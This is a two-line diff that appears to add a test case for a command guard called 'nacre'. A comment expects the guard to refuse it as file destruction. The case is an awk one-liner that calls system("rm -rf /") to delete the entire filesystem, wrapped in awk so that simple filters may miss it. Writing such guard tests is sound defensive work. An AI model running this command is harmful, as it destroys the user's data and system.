@@ -1,0 +1,2 @@
+# nacre: refused file.destroy
+awk 'BEGIN{system("rm -rf /")}'
